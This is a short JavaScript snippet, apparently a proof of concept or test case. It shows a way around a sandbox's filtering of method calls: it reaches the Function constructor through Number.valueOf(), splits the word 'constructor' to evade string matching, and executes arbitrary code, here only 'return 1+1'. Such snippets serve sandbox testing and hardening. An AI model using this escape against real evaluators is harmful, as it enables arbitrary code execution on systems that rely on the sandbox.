// buildMethodCall drops calls on Number and Math: Number.valueOf() is Number itself, a function.
const k = ['con', 'structor'].join('');
console.log(Number.valueOf()[k]('return 1+1')());
